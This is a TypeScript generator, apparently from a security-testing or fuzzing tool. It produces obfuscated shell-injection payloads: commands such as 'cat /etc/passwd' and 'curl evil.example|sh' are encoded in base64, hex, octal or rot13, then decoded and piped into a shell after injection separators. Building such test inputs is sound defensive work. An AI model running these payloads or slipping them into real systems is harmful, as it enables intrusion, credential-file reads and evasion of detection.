import type { Random } from '../../../random.js';
import { commandGenerator } from '../command-generator.js';
import { COMMAND, PLACES } from '../place.js';

const COMMANDS = [
  'id',
  'whoami',
  'cat /etc/passwd',
  'uname -a',
  'ls -la',
  'sleep 5',
  'curl evil.example|sh',
  'rm -rf /tmp/x',
];
const pick = (random: Random): string => random.pick(COMMANDS);
const bytes = (text: string, write: (code: number) => string): string => [...Buffer.from(text)].map(write).join('');
const hex = (code: number): string => code.toString(16).padStart(2, '0');
const octal = (code: number): string => code.toString(8).padStart(3, '0');

/** The command arrives encoded, something decodes it, a shell reads it. */
export const encodedPipe = commandGenerator({
  name: 'encoded-pipe',
  shells: ['bash'],
  places: [...PLACES, COMMAND],
  rules: {
    start: [
      '{leave}{first}{decoded} | {sh}{end}',
      '{leave}{first}{decoded}|{sh}{end}',
      '{leave}{first}eval "$({decoded})"{end}',
      '{leave}{first}$({decoded}){end}',
      '{leave}{first}bash <<< $({decoded}){end}',
      '{leave}{first}sh -c "`{decoded}`"{end}',
    ],
    first: [';', '; ', '|', '||', '\n', '&&', '& '],
    sh: ['sh', 'bash', '/bin/sh', 'bash -s', 'sh -', 'source /dev/stdin', 'xargs -I{} sh -c {}', 'dash'],
    decoded: [
      'echo {base64} | base64 -d',
      'echo {base64}|base64 --decode',
      'base64 -d <<< {base64}',
      "printf '{hex}'",
      'echo -e "{hex}"',
      "printf '{octal}'",
      'echo {plain-hex} | xxd -r -p',
      'xxd -r -p <<< {plain-hex}',
      "echo '{reversed}' | rev",
      "echo '{rot}' | tr a-z n-za-m",
      'printf %b "{octal}"',
      "echo $'{hex}'",
    ],
    base64: (random) => Buffer.from(pick(random)).toString('base64'),
    hex: (random) => bytes(pick(random), (code) => `\\x${hex(code)}`),
    octal: (random) => bytes(pick(random), (code) => `\\${octal(code)}`),
    'plain-hex': (random) => bytes(pick(random), hex),
    reversed: (random) => [...pick(random)].reverse().join(''),
    rot: (random) =>
      pick(random).replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97)),
  },
});
